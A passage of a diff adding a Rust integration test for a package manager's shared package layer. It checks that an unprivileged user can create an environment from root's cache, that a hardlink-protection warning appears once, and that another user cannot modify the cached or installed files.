+    assert_eq!(set_archive_modes(&archive, &modes), 2);
+    testchannel::build_channel(&channel, &[PackageBuild::new("benign", "1.0")]).unwrap();
+    let url = url::Url::from_directory_path(&channel).unwrap();
+    // Root's shared layer, with benign in it.
+    s.ok(&["env", "create", "-n", "seed", "-c", url.as_str(), "benign"]);
+    let shared = s.path("shared-pkgs");
+    std::fs::rename(s.pkgs_dir(), &shared).unwrap();
+    std::fs::remove_dir_all(s.prefix("seed")).unwrap();
+    std::fs::create_dir_all(s.path("config/airlock")).unwrap();
+    std::fs::write(
+        s.path("config/airlock/config.toml"),
+        format!("pkgs_layers = [\"{}\"]\n", shared.display()),
+    )
+    .unwrap();
+    // Everything else in the sandbox is nobody's.
+    std::fs::set_permissions(s.path(""), std::fs::Permissions::from_mode(0o755)).unwrap();
+    for sub in [
+        "home", "data", "cache", "config", "state", "work", "channel",
+    ] {
+        let status = Command::new("chown")
+            .args(["-R", "nobody:nogroup"])
+            .arg(s.path(sub))
+            .status()
+            .unwrap();
+        assert!(status.success());
+    }
+
+    let out = run_as(
+        &s,
+        "nobody",
+        &[
+            "env",
+            "create",
+            "-n",
+            "mine",
+            "-c",
+            url.as_str(),
+            "wide",
+            "benign",
+        ],
+    );
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{stderr}");
+    assert_eq!(
+        stderr.matches("fs.protected_hardlinks").count(),
+        1,
+        "the copies from root's layer are said once: {stderr}"
+    );
+    assert!(stderr.contains(&shared.display().to_string()), "{stderr}");
+
+    let entry = cache_entry(&s, "wide-1.0-0");
+    for (file, _) in modes {
+        for path in [entry.join(file), s.prefix("mine").join(file)] {
+            let before = file_state(&path);
+            let out = Command::new("runuser")
+                .args([
+                    "-u",
+                    "daemon",
+                    "--",
+                    "sh",
+                    "-c",
+                    "echo changed >> \"$1\"",
+                    "sh",
+                ])
+                .arg(&path)
+                .output()
+                .unwrap();
+            assert!(
+                !out.status.success(),
+                "daemon could write {}",
+                path.display()
+            );
+            assert_eq!(file_state(&path), before);
+        }
+    }
 }
